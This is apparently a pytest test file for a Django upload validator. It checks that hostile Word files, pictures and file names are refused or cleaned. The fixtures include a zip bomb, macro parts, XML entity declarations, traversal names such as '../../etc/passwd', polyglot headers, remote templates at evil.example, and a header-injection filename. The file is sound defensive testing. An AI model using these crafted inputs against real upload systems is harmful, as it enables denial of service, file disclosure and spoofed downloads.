"""Files made to do harm: two kinds in one, bombs, macros, outside sources, hidden places, names that lie."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import FileResponse
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from xinqiao.cases.archives import BadArchive, check_office_file, look_inside
from xinqiao.cases.files import LARGEST_PICTURE, clean_name, keep_upload, path_of
from xinqiao.law.model import Refused

MAIN = "word/document.xml"
MARK = b"secret-place-31.2304N-121.4737E"


@pytest.fixture(autouse=True)
def folder(settings: Any, tmp_path: Path) -> Path:
    settings.FILES = tmp_path
    return tmp_path


def word(**more: bytes) -> bytes:
    """A Word file with files of these names added."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        made.writestr(MAIN, "<w:document/>")
        for name, content in more.items():
            made.writestr(name, content)
    return out.getvalue()


def keep(name: str, data: bytes) -> dict[str, Any]:
    return keep_upload(SimpleUploadedFile(name, data))


def relation(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def lying(data: bytes, *, says: int) -> bytes:
    """The archive with every size in its directory replaced by another."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sizes = {one.file_size for one in archive.infolist()}
    for size in sizes:
        data = data.replace(struct.pack("<I", size), struct.pack("<I", says))
    return data


def test_an_ordinary_word_file_with_a_link_is_kept() -> None:
    link = {"word/_rels/document.xml.rels": relation("hyperlink", "https://www.gov.cn/")}
    assert keep("a.docx", word(**link))["name"] == "a.docx"


def bomb() -> bytes:
    """210 MB of nothing in 200 KB."""
    out = io.BytesIO(word())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as made,
        made.open("word/media/a.bmp", "w") as inside,
    ):
        for _one in range(210):
            inside.write(bytes(1024 * 1024))
    return out.getvalue()


HOSTILE: dict[str, Callable[[], bytes]] = {
    "a program with an archive behind it": lambda: b"MZ" + b"\0" * 100 + word(),
    "a page with an archive behind it": lambda: b"<html><script>alert(1)</script></html>" + word(),
    "an archive inside": lambda: word(**{"word/media/a.png": b"PK\x03\x04" + b"\0" * 40}),
    "a RAR inside": lambda: word(**{"word/media/a.png": b"Rar!\x1a\x07\x01\x00"}),
    "a spreadsheet inside": lambda: word(**{"word/embeddings/a.xlsx": word()}),
    "a program inside": lambda: word(**{"word/media/a.png": b"MZ\x90\0"}),
    "an old document inside": lambda: word(**{"word/embeddings/o": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "macros": lambda: word(**{"word/vbaProject.bin": b"x"}),
    "a script by name": lambda: word(**{"word/run.VBS": b"x"}),
    "a template from outside": lambda: word(
        **{"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/a.dotm")}
    ),
    "a picture from outside": lambda: word(
        **{"word/_rels/document.xml.rels": relation("image", "http://evil.example/track.png")}
    ),
    "entities": lambda: word(
        **{"word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'}
    ),
    "entities in UTF-16": lambda: word(
        **{"word/styles.xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b">]><a/>'.encode("utf-16")}
    ),
    "a bomb": bomb,
    "a bomb that says it is small": lambda: lying(bomb(), says=9),
    "a name that leads out": lambda: word(**{"../../etc/passwd": b"x"}),
    "an absolute name": lambda: word(**{"/etc/passwd": b"x"}),
    "too many files": lambda: word(**{f"word/{count}.xml": b"" for count in range(2100)}),
    "cut off": lambda: word()[:-30],
    "no document": lambda: b"PK\x03\x04" + b"\0" * 60,
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_word_file_that_is_more_than_a_letter_is_refused(what: str, folder: Path) -> None:
    with pytest.raises(Refused):
        keep("letter.docx", HOSTILE[what]())
    assert [one for one in folder.rglob("*") if one.is_file()] == []


def test_a_password_and_two_files_of_one_name_are_refused() -> None:
    data = bytearray(word())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        start = archive.start_dir
    data[start + 8] |= 1
    with pytest.raises(BadArchive, match="password"):
        look_inside(io.BytesIO(bytes(data)), most=1000)
    twice = word(**{"word/b.xml": b"x", "word/c.xml": b"y"}).replace(b"word/c.xml", b"word/b.xml")
    with pytest.raises(BadArchive, match="one name"):
        look_inside(io.BytesIO(twice), most=1000)


@given(st.data())
def test_whatever_is_done_to_an_archive_it_is_read_or_refused(data: st.DataObject) -> None:
    whole = bytearray(word(**{"word/a.xml": b"<a/>" * 50}))
    for _one in range(data.draw(st.integers(1, 4))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    try:
        check_office_file(io.BytesIO(bytes(whole)), main=MAIN, most=10_000)
    except BadArchive:
        pass


def test_an_old_word_file_with_macros_is_refused() -> None:
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    assert keep("a.doc", old)["media_type"] == "application/msword"
    with pytest.raises(Refused):
        keep("a.doc", old + "_VBA_PROJECT".encode("utf-16-le"))


# -- Pictures --------------------------------------------------------------------------------------


def drawn(kind: str, **more: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "green").save(out, kind, **more)
    return out.getvalue()


def hidden() -> dict[str, bytes]:
    """Pictures with the same mark in every place that a picture has for it."""
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    text = PngInfo()
    text.add_text("place", MARK.decode())
    text.add_itxt("place", MARK.decode())
    webp = {"exif": exif, "xmp": MARK, "icc_profile": MARK}
    return {
        "JPEG": drawn("JPEG", exif=exif, xmp=MARK, comment=MARK, icc_profile=MARK) + MARK,
        "PNG": drawn("PNG", exif=exif, pnginfo=text, icc_profile=MARK) + MARK,
        "WEBP": drawn("WEBP", **webp),
    }


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_nothing_but_the_picture_is_kept_of_a_picture(kind: str) -> None:
    data = hidden()[kind]
    kept = path_of(keep("a.jpg", data)["sha256"]).read_bytes()
    shown = Image.open(io.BytesIO(kept))
    assert shown.size == (64, 48)
    assert MARK not in kept
    assert not {"exif", "xmp", "icc_profile", "comment", "place"} & set(shown.info)
    assert not shown.getexif()


def png_of(width: int, height: int) -> bytes:
    """A small file that says it is a picture of this size."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 999))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    ("width", "height"), [(7746, 7747), (50_000, 50_000), (2**31 - 1, 2**31 - 1), (0, 9)]
)
def test_a_picture_that_says_it_is_huge_is_refused_before_it_is_drawn(
    width: int, height: int, folder: Path
) -> None:
    assert width * height > LARGEST_PICTURE or not width
    with pytest.raises(Refused):
        keep("a.png", png_of(width, height))
    assert [one for one in folder.rglob("*") if one.is_file()] == []


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_with_any_bytes_changed_is_kept_or_refused_and_never_breaks_the_page(kind: str) -> None:
    chance = random.Random(kind)
    whole = hidden()[kind]
    for _one in range(250):
        broken = bytearray(whole)
        for _place in range(chance.randrange(1, 6)):
            broken[chance.randrange(len(broken))] = chance.randrange(256)
        try:
            keep(
                "a.jpg",
                bytes(broken[: chance.randrange(20, len(broken))] if chance.random() < 0.2 else broken),
            )
        except Refused:
            continue


# -- Names -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("fdp.\u202eexe.pdf", "fdp.exe.pdf"),
        ("答复\u200b\u200d\u2060意见.pdf", "答复意见.pdf"),
        ("two\nlines\r\n.pdf", "two lines .pdf"),
        ("a\u2028b\x85c.pdf", "a b c.pdf"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ("x\0.pdf", "x.pdf"),
        ("\U000e0041\ufffe.pdf", "pdf"),
        ("%2e%2e%2fpasswd", "2e2e2fpasswd"),
        ('a";filename=b.exe', "a;filename=b.exe"),
    ],
)
def test_a_name_is_shown_as_it_is_read(name: str, shown: str) -> None:
    assert clean_name(name) == shown


@given(st.text(max_size=200))
def test_a_name_puts_nothing_into_a_header(name: str) -> None:
    response = FileResponse(io.BytesIO(b""), as_attachment=True, filename=clean_name(name) + ".pdf")
    header = response["Content-Disposition"]
    assert header.isascii() and header.isprintable()
    assert header.startswith("attachment; filename")
    assert header.count("filename") <= 2 + clean_name(name).count("filename")
